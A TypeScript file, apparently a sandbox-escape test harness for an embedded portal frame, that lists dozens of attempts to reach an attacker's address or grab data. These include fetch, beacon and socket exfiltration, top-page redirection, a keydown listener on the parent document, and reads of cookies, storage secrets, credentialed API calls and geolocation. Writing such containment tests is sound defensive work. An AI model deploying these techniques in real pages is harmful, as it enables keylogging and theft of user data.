/** Where an attempt is made. */
export interface Ground {
  /** the address that this attempt is to have asked for, on a machine of the attacker's */
  to: string
  /** a script of this page's own origin */
  script: string
}

export type Attempt = (ground: Ground) => unknown

const add = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, made: Partial<HTMLElementTagNameMap[Tag]>) => {
  const element = Object.assign(document.createElement(tag), made)
  document.body.append(element)
  return element
}
const link = (rel: string, to: string, as = '') => add('link', { rel, href: to, as })
const nonce = () => document.querySelector<HTMLMetaElement>('meta[name=portal-nonce]')?.content ?? ''

/** What would tell another machine something: it succeeds when that machine is asked. */
export const reaching: Record<string, Attempt> = {
  'a request': ({ to }) => fetch(to, { mode: 'no-cors' }),
  'an old request': ({ to }) => {
    const request = new XMLHttpRequest()
    request.open('GET', to)
    request.send()
  },
  'a beacon': ({ to }) => navigator.sendBeacon(to, 'stolen'),
  'an image': ({ to }) => add('img', { src: to }),
  'a background': ({ to }) => {
    add('div', { textContent: 'x' }).style.backgroundImage = `url(${to})`
  },
  'a font': ({ to }) => new FontFace('stolen', `url(${to})`).load(),
  'a style sheet': ({ to }) => link('stylesheet', to),
  'an import of styles': ({ to }) => add('style', { nonce: nonce(), textContent: `@import url(${to});` }),
  'a script': ({ to }) => add('script', { src: to }),
  'a module': ({ to }) => import(/* webpackIgnore: true */ to),
  'a prefetch': ({ to }) => link('prefetch', to),
  'a preload': ({ to }) => link('preload', to, 'image'),
  'a preload of a module': ({ to }) => link('modulepreload', to),
  'a sound': ({ to }) => add('audio', { preload: 'auto', src: to }),
  'a nested frame': ({ to }) => add('iframe', { src: to }),
  'an object': ({ to }) => add('object', { data: to }),
  'a socket': ({ to }) => new WebSocket(to.replace('http', 'ws')),
  'a stream of events': ({ to }) => new EventSource(to),
  'a worker': ({ to }) => new Worker(URL.createObjectURL(new Blob([`fetch('${to}', { mode: 'no-cors' })`]))),
  'a ping of a link': ({ to }) => add('a', { href: '#', ping: to }).click(),
  'a document in a frame': ({ to }) => add('iframe', { srcdoc: `<img src="${to}">` }),
  'a form in another frame': ({ to }) => {
    add('iframe', { name: 'target' })
    add('form', { method: 'post', action: to, target: 'target' }).submit()
  },
}

/** What leads the frame, or the page around it, somewhere else: it succeeds when the other machine is asked. */
export const leading: Record<string, Attempt> = {
  'a form': ({ to }) => add('form', { method: 'post', action: to }).submit(),
  'the page around it': ({ to }) => {
    if (top) top.location.href = to
  },
  itself: ({ to }) => {
    location.href = to
  },
}

/** What only a click of the visitor may do: it succeeds when the other machine is asked. */
export const clicking: Record<string, Attempt> = {
  'a window': ({ to }) => window.open(to),
  'a link to a window': ({ to }) => add('a', { href: to, target: '_blank' }).click(),
  'a link of the page around it': ({ to }) => add('a', { href: to, target: '_top' }).click(),
}

/** What would give it something: it succeeds when that comes back. */
export const grasping: Record<string, Attempt> = {
  'the document around it': () => parent.document.title,
  'where the page around it is': () => top?.location.href,
  'the keys that are pressed there': () => {
    parent.document.addEventListener('keydown', ({ key }) => keys.push(key))
    return true
  },
  'a layer over the page around it': () => {
    const layer = parent.document.createElement('div')
    parent.document.body.append(layer)
    return layer.isConnected
  },
  'a cookie': () => {
    // biome-ignore lint/suspicious/noDocumentCookie: it is what is tried
    document.cookie = 'stolen=1'
    return document.cookie
  },
  'what the page around it keeps': () => localStorage.getItem('secret'),
  'what the page around it keeps in its tab': () => sessionStorage.getItem('secret'),
  'a database': () =>
    new Promise((done, fail) => {
      const request = indexedDB.open('stolen')
      request.onsuccess = () => done(request.result.name)
      request.onerror = () => fail(request.error)
    }),
  'a cache': async () => (await caches.open('stolen')) && true,
  'a service worker': async ({ script }) => (await navigator.serviceWorker.register(script)).scope,
  "the portal's API": async () => (await fetch('/api/portal', { credentials: 'include' })).text(),
  "a file of the portal's as text": async ({ script }) => (await fetch(script)).text(),
  // biome-ignore lint/security/noGlobalEval: it is what is tried
  'a text that is run': () => (0, eval)('6 * 7'),
  'a function of a text': () => new Function('return 42')(),
  'a handler in an attribute': () => {
    const button = add('button', {})
    button.setAttribute('onclick', 'window.handled = true')
    button.click()
    return (window as { handled?: boolean }).handled
  },
  'markup with a handler': () => {
    add('div', {}).innerHTML = '<b>bold</b>'
    return document.querySelector('b')?.textContent
  },
  WebAssembly: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  'a peer connection': () => new RTCPeerConnection().createDataChannel('stolen').label,
  "a new window's peer connection": () => {
    const { contentWindow } = add('iframe', {})
    return (contentWindow as unknown as { RTCPeerConnection?: unknown }).RTCPeerConnection !== undefined
  },
  'where the visitor is': () =>
    new Promise((done, fail) => navigator.geolocation.getCurrentPosition((at) => done(at.coords.latitude), fail)),
}

/** what the page around it was told by its keyboard */
export const keys: string[] = []
